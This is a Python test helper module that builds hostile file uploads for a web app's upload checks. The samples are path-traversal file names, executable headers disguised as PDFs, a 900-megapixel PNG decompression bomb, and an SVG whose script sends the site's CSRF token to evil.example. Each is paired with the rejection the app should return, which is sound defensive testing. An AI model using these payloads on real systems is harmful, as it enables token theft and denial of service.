"""The upload attacks of issue 16, shared by the kernel's and every app's tests.

Each attack goes as a hand-built multipart body: the file name reaches the app byte for byte, whatever the
installed Werkzeug does with names (issue 17), so the tests prove the app's own checks.
"""

from __future__ import annotations

import functools
import io
import secrets
import struct
import zlib

from PIL import Image

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
SVG_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              b"<script>fetch('/auth/csrf-token').then(r => r.text()).then(t => new Image().src = "
              b"'https://evil.example/?' + t)</script></svg>")


def small_png(width: int = 16, height: int = 16) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 80, 40)).save(buffer, "PNG")
    return buffer.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@functools.cache
def huge_png(side: int = 30_000) -> bytes:
    """A valid 1-bit PNG of side × side pixels (30,000² = 900 megapixels) that weighs about 110 KB."""
    row = bytes(1 + (side + 7) // 8)  # filter byte 0, then white… black pixels: all zeros
    compressor = zlib.compressobj(9)
    rows = [compressor.compress(row * 100) for _ in range(side // 100)]
    rows += [compressor.compress(row * (side % 100)), compressor.flush()]
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(rows)) + _chunk(b"IEND", b"")


# (file name, content, HTTP status, a fragment of the French reason)
FILE_ATTACKS = [
    ("../../x.txt", b"bonjour", 400, "Nom de fichier refusé"),
    ("..\\..\\boot.ini.pdf", PDF, 400, "Nom de fichier refusé"),
    ("dessin.svg", SVG_SCRIPT, 415, "SVG, HTML et XML sont refusés"),
    ("virus.pdf", PE, 415, "est un programme"),
    ("outil.pdf", ELF, 415, "est un programme"),
]
IMAGE_BOMB = ("affiche.png", "huge", 413, "image trop grande")  # content: huge_png(), built on demand


def attacks(*, with_image_bomb: bool = True) -> list[tuple[str, bytes, int, str]]:
    bomb = [(IMAGE_BOMB[0], huge_png(), IMAGE_BOMB[2], IMAGE_BOMB[3])] if with_image_bomb else []
    return FILE_ATTACKS + bomb


def raw_multipart(fields: dict[str, str | list[str]], files: list[tuple[str, str, bytes]]) -> tuple[bytes, str]:
    """A multipart/form-data body with the file names exactly as given; returns (body, content type)."""
    boundary = "preau" + secrets.token_hex(12)
    parts = []
    for name, values in fields.items():
        for value in [values] if isinstance(values, str) else values:
            parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
                         + value.encode() + b"\r\n")
    for field_name, filename, content in files:
        quoted = filename.replace('"', "%22").encode()
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{field_name}"; filename="'.encode()
                     + quoted + b'"\r\nContent-Type: application/octet-stream\r\n\r\n' + content + b"\r\n")
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def post_raw(client, url: str, fields: dict[str, str | list[str]], files: list[tuple[str, str, bytes]]):
    """POST a form with its CSRF token and files whose names reach the app unchanged."""
    body, content_type = raw_multipart({"csrf_token": client.csrf_token(), **fields}, files)
    return client.post(url, data=body, content_type=content_type)
